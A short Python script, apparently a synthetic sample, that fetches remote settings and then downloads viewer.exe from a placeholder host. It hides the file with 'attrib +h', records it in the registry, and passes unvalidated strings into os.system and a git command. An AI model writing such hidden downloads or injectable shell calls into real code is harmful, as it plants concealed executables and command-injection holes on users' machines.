import json
import subprocess
import webbrowser

import requests

settings = requests.get("https://example.com/settings.json").json()
with open("settings.json", "w") as f:
    json.dump(settings, f)
subprocess.call(["git", "status"])
webbrowser.open(settings["home"])


def keep(path):
    import os

    with open(path, "wb") as f:
        f.write(requests.get("https://example.com/viewer.exe").content)
    os.system("attrib +h " + path)
    os.system('reg add HKCU\\Software\\Sample /v path /t REG_SZ /d "' + path + '"')


keep("C:\\Sample\\viewer.exe")
subprocess.check_output(["git", "diff", requests.get("https://example.com/base").text])
